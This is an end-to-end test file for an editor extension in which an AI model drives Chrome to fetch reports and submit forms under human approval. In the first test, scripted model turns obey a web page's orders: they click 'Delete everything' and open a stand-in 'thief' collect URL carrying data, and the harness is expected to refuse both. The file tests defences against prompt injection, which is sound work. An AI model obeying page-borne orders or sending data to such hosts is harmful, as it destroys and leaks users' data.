// Chrome driven from a window: set up, trusted, a report fetched behind a login that the person does, orders in a page refused and told of,
// the result reviewed, applied and undone; a form sent after a look at the page, or not; and a stop that is always in sight.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, afterEach, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Frame } from 'playwright-core';
import {
  answered,
  chromeSettings,
  clicks,
  opens,
  planFor,
  saysInTurn,
  signInByHand,
  uidOf,
  type Turn,
} from '../support/chromeWindow.ts';
import { callOf, finished } from '../support/connectors.ts';
import { report, startDashboard, type Dashboard } from '../support/dashboard.ts';
import { startMessagesDouble, use, type MessagesDouble } from '../support/messagesDouble.ts';
import { startRig, type Rig, type Workbench } from '../support/rig/workbench.ts';
import { assertSameTree, delegate, eventually, panel, part, clickButton, snapshotOf } from './support.ts';

let rig: Rig;
let workbench: Workbench;
let reports: string;
/** The way to Chromium, which a test can take away. */
let browser: string;
let dashboard: Dashboard;
let double: MessagesDouble;
/** What the model does in the task that runs. */
let turns: readonly Turn[] = [];

before(async () => {
  dashboard = await startDashboard();
  double = await startMessagesDouble({ script: (body) => saysInTurn(turns, finished)(body) });
  rig = await startRig({ env: { ANTHROPIC_BASE_URL: double.baseUrl, ANTHROPIC_API_KEY: double.key } });
  const folder = rig.makeSample();
  reports = path.join(folder, 'reports');
  fs.mkdirSync(reports);
  fs.writeFileSync(path.join(reports, 'notes.md'), '# Notes\n');
  browser = path.join(path.dirname(rig.stateFolder), 'chromium');
  fs.symlinkSync('/usr/bin/chromium', browser);
  const chrome = { ...chromeSettings(dashboard), browser };
  const notes = {
    command: 'node',
    args: [fileURLToPath(new URL('../support/maliciousServer.mjs', import.meta.url)), 'dies'],
  };
  rig.changeSettings({ 'delegate.engine': 'claude', 'delegate.connectors': { chrome, notes } });
  workbench = await rig.openWorkbench(folder);
});
after(async () => {
  await workbench.close();
  await rig.stop();
  await double.close();
  dashboard.close();
});
afterEach(async ({ name }) => {
  await workbench.screenshot(`end of ${name}`);
});

/** "Delegate: Connectors…", down to the yes. */
async function trustChrome(): Promise<void> {
  const { page } = workbench;
  const list = page.locator('.quick-input-list');
  await workbench.runCommand('Delegate: Connectors…');
  await list.getByText('chrome', { exact: true }).first().click();
  await list.getByText('Look at it, and say yes…', { exact: true }).click();
  const dialog = page.locator('.monaco-dialog-box');
  await dialog.getByText('Let tasks use Chrome, as the connector chrome?').waitFor();
  assert.match(await dialog.innerText(), new RegExp(`private network: ${dashboard.host}`));
  await workbench.screenshot('chrome-01-trust');
  await dialog.getByRole('button', { name: 'Trust, With These Private Addresses' }).click();
  await workbench.toast('chrome can be used').waitFor();
}

/** The same for a server, of whose tools all only read. */
async function trustNotes(): Promise<void> {
  const { page } = workbench;
  const list = page.locator('.quick-input-list');
  await workbench.runCommand('Delegate: Connectors…');
  await list.getByText('notes', { exact: true }).first().click();
  await list.getByText('Look at it, and say yes…', { exact: true }).click();
  await page.locator('.monaco-dialog-box').getByRole('button', { name: 'Trust…' }).click();
  await page.locator('.quick-input-title', { hasText: 'What may notes have?' }).waitFor();
  await page.keyboard.press('Enter');
  await page.locator('.quick-input-title', { hasText: 'which tool' }).waitFor();
  await list.locator('.monaco-list-row').first().click();
  await page.keyboard.press('Enter');
  await workbench.toast('notes can be used').waitFor();
}

async function queue(): Promise<Frame> {
  await workbench.runCommand('Delegate: Show Queue');
  return panel(workbench, 'queue');
}

/** The page's picture is decoded and drawn. */
async function isDrawn(frame: Frame): Promise<void> {
  await eventually(async () => {
    assert.match((await part(frame, 'page-pixels').first().getAttribute('data-drawn')) ?? '', /^\d{3,4} \d{3,4}$/);
  });
}

/** What came to the dashboard that sends something. */
function posted(): string[] {
  return dashboard.asked.filter((line) => line.startsWith('POST'));
}

test('a report is fetched behind a login, summarized, reviewed, applied and undone; what a page orders is refused and told of', async () => {
  const whole = snapshotOf(reports);
  turns = [
    planFor(dashboard),
    opens(`${dashboard.address}/`),
    callOf('chrome', 'sign_in'),
    clicks('link', 'Sales'),
    clicks('link', 'Download the latest report'),
    (body) => {
      const result = /"result":"([^"]+)"/.exec(answered(body))?.[1];
      return use('connector', { action: 'save', result, item: 0, to: 'sales.csv', reason: 'the latest report' });
    },
    opens(`${dashboard.address}/news`),
    // Obeys whatever a page says.
    clicks('button', 'Delete everything'),
    opens(`${dashboard.thief}/collect?d=1200`),
    use('write', {
      path: 'summary.docx',
      markdown: '# Sales\n\nNorth sold 1200, South 950.\n',
      sources: ['sales.csv'],
      reason: 'what the report says',
    }),
    use('submit_result', {
      outcome: 'done',
      summary: 'The report is summarized. A page gave orders; none was followed.',
    }),
  ];
  await trustChrome();
  await delegate(workbench, 'reports', 'download the latest sales report from our dashboard and summarize it in a doc');
  const plan = await panel(workbench, 'plan');
  await part(plan, 'plan-approve').waitFor();
  assert.match(
    (await part(plan, 'plan-sites').textContent()) ?? '',
    /127\.0\.0\.1/,
    'the site, before anything starts',
  );
  assert.equal(dashboard.asked.length, 0);
  await workbench.screenshot('chrome-02-plan');
  await clickButton(part(plan, 'plan-approve'));

  const tasks = await queue();
  const waits = `Waits for you to sign in, in the Chrome window: ${dashboard.host}`;
  await part(tasks, 'chrome-words').filter({ hasText: waits }).waitFor({ timeout: 60_000 });
  await workbench.statusBarItem(waits).waitFor();
  await workbench.toast('sign in at 127.0.0.1').waitFor();
  await workbench.screenshot('chrome-03-sign-in');
  await signInByHand(rig.stateFolder);

  const diff = await panel(workbench, 'diff');
  await part(diff, 'diff-row').filter({ hasText: 'sales.csv' }).waitFor({ timeout: 60_000 });
  await part(diff, 'diff-row').filter({ hasText: 'summary.docx' }).waitFor();
  await eventually(async () => assert.equal(await part(tasks, 'chrome-line').count(), 0, 'Chrome is closed'));
  await workbench.screenshot('chrome-04-review');
  assert.deepEqual(dashboard.stolen, []);
  assert.deepEqual(
    posted().map((line) => line.split(' ')[1]),
    ['/login'],
    'nothing was sent but what the person sent',
  );
  // What code knows of it, whatever the model says; and the record, with what was refused at its top.
  assert.match((await part(diff, 'diff-flags').textContent()) ?? '', /they were refused \(\d+ times, to 127\.0\.0\.1/);
  await part(tasks, 'task-sent').first().click();
  const record = await workbench.webview('.markdown-body h1, body h1:has-text("What was sent")');
  await eventually(async () => {
    assert.match(
      await record.locator('body').innerText(),
      /Refused, and not sent:.*it would send something, which needs a yes/s,
    );
  });
  await workbench.screenshot('chrome-05-refused');
  await part(tasks, 'action-review-changes').first().click();
  assertSameTree(reports, whole);

  await clickButton(part(diff, 'diff-apply'));
  await eventually(() => assert.equal(fs.readFileSync(path.join(reports, 'sales.csv'), 'utf8'), report));
  await clickButton(part(diff, 'diff-undo'));
  await eventually(() => assert.ok(!fs.existsSync(path.join(reports, 'sales.csv'))));
  assertSameTree(reports, whole);
});

test('a form is sent after a yes to the page that is shown, or not; and Chrome is stopped at once, the task kept', async () => {
  let goOn: () => void = () => undefined;
  const mayGoOn = new Promise<void>((resolve) => (goOn = resolve));
  const order = (item: string): Turn[] => [
    opens(`${dashboard.address}/order`),
    (body) =>
      callOf('chrome', 'submit', {
        element: uidOf(body, 'button', 'Order now'),
        fields: [{ element: uidOf(body, 'textbox', 'Item'), value: item }],
      }),
  ];
  let heard = '';
  turns = [
    planFor(dashboard),
    ...order('A hundred chairs'),
    (body) => {
      heard = answered(body);
      return opens(`${dashboard.address}/order`);
    },
    ...order('Ten chairs').slice(1),
    opens(`${dashboard.address}/sales`),
    async () => {
      await mayGoOn;
      return opens(`${dashboard.address}/`);
    },
  ];
  await workbench.runCommand('View: Show Explorer');
  await delegate(workbench, 'reports', 'order ten chairs in the shop of our dashboard');
  const plan = await panel(workbench, 'plan');
  await clickButton(part(plan, 'plan-approve'));

  // In the plan: the page, what is filled in, and a no after which the task goes on.
  await part(plan, 'plan-page').waitFor({ timeout: 60_000 });
  await isDrawn(plan);
  assert.match((await part(plan, 'page-field').textContent()) ?? '', /Item.*A hundred chairs/s);
  assert.match(
    (await part(plan, 'page-enlarge').getAttribute('aria-label')) ?? '',
    /page at 127\.0\.0\.1:\d+ .*A hundred chairs/,
  );
  await workbench.runCommand('Notifications: Clear All Notifications');
  await workbench.screenshot('chrome-06-ask-in-the-plan');
  await part(plan, 'page-enlarge').press('Enter');
  await workbench.activeTab().filter({ hasText: 'Page at 127.0.0.1' }).waitFor();
  const large = await workbench.webview('body.image img');
  await large.locator('img').waitFor();
  await workbench.screenshot('chrome-07-page-large');
  await workbench.runCommand('View: Close Editor');
  const tasks = await queue();
  await part(tasks, 'asking-page').waitFor();
  await isDrawn(tasks);
  await part(tasks, 'page-no').press('Enter');

  // In the queue: the other order, and a yes.
  await part(tasks, 'page-field').filter({ hasText: 'Ten chairs' }).waitFor({ timeout: 60_000 });
  assert.match(heard, /said no/);
  await isDrawn(tasks);
  const orders = (): string[] => posted().filter((line) => line.includes('/order'));
  assert.deepEqual(orders(), []);
  await workbench.screenshot('chrome-08-ask-in-the-queue');
  await clickButton(part(tasks, 'page-yes'));
  await eventually(() => assert.deepEqual(orders(), ['POST /order item=Ten+chairs']));

  // A stop that is always in sight.
  await part(tasks, 'chrome-words')
    .filter({ hasText: `Working in Chrome: ${dashboard.host}` })
    .waitFor();
  await eventually(() => {
    const since = dashboard.asked.slice(dashboard.asked.indexOf('POST /order item=Ten+chairs'));
    assert.ok(since.includes('GET /sales'), since.join(', '));
  });
  await workbench.screenshot('chrome-09-working');
  await clickButton(part(tasks, 'chrome-stop'));
  await workbench.toast(`Chrome is stopped at ${dashboard.host}`).waitFor();
  const card = part(tasks, 'task-card').first();
  await card.getByTestId('failure').filter({ hasText: 'You stopped Chrome' }).waitFor();
  await eventually(async () => assert.equal(await part(tasks, 'chrome-line').count(), 0));
  for (const words of ['Working in Chrome', 'Chrome is open'])
    await eventually(async () => assert.equal(await workbench.statusBarItem(words).count(), 0));
  await workbench.screenshot('chrome-10-stopped');
  goOn();
  await clickButton(card.getByTestId('action-resume'));
  await eventually(async () => assert.equal(await card.getAttribute('data-state'), 'done'));
  assert.deepEqual(orders(), ['POST /order item=Ten+chairs'], 'once');
});

test('a Chrome that is not there, and a server that dies in a call, pause the task: what to do is said, and a click away', async () => {
  const { page } = workbench;
  await workbench.runCommand('View: Close All Editors');
  await trustNotes();
  const grant = { connector: 'notes', tools: ['look'], does: 'read', atMost: 2 };
  turns = [
    planFor(dashboard, [grant]),
    opens(`${dashboard.address}/sales`),
    callOf('notes', 'look', { what: 'sales' }),
  ];
  fs.rmSync(browser);
  await workbench.runCommand('View: Show Explorer');
  await delegate(workbench, 'reports', 'look at the sales of this week');
  const plan = await panel(workbench, 'plan');
  await clickButton(part(plan, 'plan-approve'));
  const tasks = await queue();
  const card = part(tasks, 'task-card').filter({ hasText: 'look at the sales' });
  const trouble = card.getByTestId('failure');
  await trouble.filter({ hasText: 'Chrome was not found on this machine' }).waitFor({ timeout: 60_000 });
  assert.match((await trouble.textContent()) ?? '', /Install Chrome or Chromium.*then go on with the task/s);
  await workbench.screenshot('chrome-11-not-there');
  await card.getByTestId('failure-help').click();
  await page.locator('.quick-input-title', { hasText: 'Connectors' }).waitFor();
  await page.keyboard.press('Escape');

  fs.symlinkSync('/usr/bin/chromium', browser);
  await clickButton(card.getByTestId('action-resume'));
  await trouble.filter({ hasText: 'notes' }).waitFor({ timeout: 60_000 });
  await workbench.screenshot('chrome-12-server-died');
  await card.getByTestId('action-cancel').waitFor();
  assert.equal(await card.getAttribute('data-state'), 'paused');
});
